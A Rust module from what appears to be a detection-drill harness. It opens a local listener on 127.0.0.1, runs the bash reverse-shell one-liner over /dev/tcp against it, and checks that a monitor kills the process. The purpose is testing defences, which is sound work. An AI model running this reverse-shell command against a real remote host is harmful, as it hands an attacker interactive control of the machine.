//! Owns: step two: a shell whose input and output are a connection to a listener of the drill's own.
//! Never: sending it a command.

use std::net::TcpListener;

use super::super::Drill;
use super::super::act::Act;
use super::super::outcome::Outcome;
use crate::failure::Failure;

pub fn run(drill: &Drill<'_>) -> Result<Outcome, Failure> {
    // The kernel completes the connection out of the backlog; nobody need accept it for the shell to be connected.
    let listener = TcpListener::bind("127.0.0.1:0").and_then(|listener| Ok((listener.local_addr()?.port(), listener)));
    let (port, _listener) =
        listener.map_err(|cause| Failure::File { what: "listen on", path: "127.0.0.1".to_owned(), cause })?;
    let marker = drill.den.marker("reverse-shell");
    let script = format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
    let act = Act::start("/bin/bash", &["-c", &script, &marker], &marker)?;
    super::killed(drill, "reverse-shell", &act, &marker, &["network", "connect", "process", "exec"])
}
